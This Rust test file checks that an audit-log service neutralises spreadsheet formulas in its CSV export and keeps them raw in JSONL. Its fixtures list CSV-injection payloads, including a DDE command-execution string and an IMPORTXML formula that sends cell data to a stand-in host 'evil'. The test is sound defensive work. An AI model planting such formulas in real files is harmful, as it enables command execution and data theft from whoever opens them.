//! Issue 21, item 5: the CSV export runs formulas. A caller of the ingest
//! API writes spreadsheet formulas into the cells it controls
//! (`principal_name`, `error`, `principal_id`, `adapter_id`); an operator
//! exports the trail as CSV and opens it in a spreadsheet. Every cell that
//! begins with `=`, `+`, `-`, `@`, a tab or a carriage return must come out
//! prefixed with `'` (OWASP's CSV injection advice), read back with a real
//! CSV parser; the JSONL export keeps the values exactly as sent.

use std::collections::HashMap;

use serde_json::{Value, json};

use crate::audit::{create_tenant, ingest_ok, wait_for_rows};
use crate::helpers::{Backend, TestApp, on_both_backends, spawn_app};

on_both_backends!(hostile_cells_open_as_text_in_the_csv_export_and_stay_raw_in_jsonl,);

const OPERATION: &str = "csv_injection_probe";

/// `(column, value)` an attacker controls, each beginning with a character
/// a spreadsheet reads as the start of a formula.
fn hostile() -> Vec<(&'static str, &'static str)> {
    vec![
        ("principal_name", r#"=HYPERLINK("http://evil","x")"#),
        ("error", "=1+1"),
        ("error", "+cmd|' /C calc'!A0"),
        ("error", "-2+3"),
        ("principal_name", "@SUM(1)"),
        ("principal_name", "\t=1+1"),
        ("error", "\r=1+1"),
        (
            "principal_id",
            "=IMPORTXML(CONCAT(\"http://evil/?\",A2),\"//a\")",
        ),
        ("adapter_id", "@cmd"),
        // Looks like a number, and is prefixed all the same (OWASP's advice:
        // the JSONL export keeps it as sent).
        ("principal_name", "-5"),
    ]
}

async fn export(app: &TestApp, format: &str) -> (String, String) {
    let response = app
        .get_as_admin(&format!(
            "/api/v1/audit/logs?tenant_id=acme&operation={OPERATION}&format={format}"
        ))
        .await;
    assert_eq!(response.status().as_u16(), 200);
    let content_type = response.headers()["content-type"]
        .to_str()
        .unwrap()
        .to_owned();
    (content_type, response.text().await.unwrap())
}

async fn hostile_cells_open_as_text_in_the_csv_export_and_stay_raw_in_jsonl(backend: Backend) {
    let app = spawn_app(backend).await;
    create_tenant(&app, "acme").await;
    let mut events: Vec<Value> = hostile()
        .into_iter()
        .map(|(column, value)| {
            let mut e = json!({"tenant_id": "acme", "operation": OPERATION, "success": false});
            e[column] = json!(value);
            e
        })
        .collect();
    // Harmless cells stay as they are, a quote inside included.
    events.push(json!({
        "tenant_id": "acme", "operation": OPERATION, "success": true,
        "principal_name": "O'Brien = boss", "error": "a+b",
    }));
    let log_ids = ingest_ok(&app, &json!(events)).await;
    assert_eq!(log_ids.len(), events.len());
    wait_for_rows(&app.store, &[OPERATION], events.len()).await;

    let (content_type, text) = export(&app, "csv").await;
    assert!(content_type.starts_with("text/csv"), "{content_type}");
    let mut reader = ::csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let by_log_id: HashMap<String, ::csv::StringRecord> = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            (r[column("log_id")].to_owned(), r)
        })
        .collect();
    assert_eq!(by_log_id.len(), events.len(), "{text}");
    for ((name, value), log_id) in hostile().into_iter().zip(&log_ids) {
        let cell = &by_log_id[log_id][column(name)];
        assert_eq!(cell, format!("'{value}"), "{name} {value:?} in the CSV");
    }
    let harmless = &by_log_id[log_ids.last().unwrap()];
    assert_eq!(&harmless[column("principal_name")], "O'Brien = boss");
    assert_eq!(&harmless[column("error")], "a+b");
    // No cell of the export begins a formula.
    for record in by_log_id.values() {
        for cell in record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} opens as a formula"
            );
        }
    }

    // JSON lines: exactly what was sent.
    let (content_type, text) = export(&app, "jsonl").await;
    assert_eq!(content_type, "application/x-ndjson");
    let lines: HashMap<String, Value> = text
        .lines()
        .map(|l| {
            let v: Value = serde_json::from_str(l).unwrap();
            (v["log_id"].as_str().unwrap().to_owned(), v)
        })
        .collect();
    for ((name, value), log_id) in hostile().into_iter().zip(&log_ids) {
        assert_eq!(lines[log_id][name], value, "{name} in JSONL");
    }
}
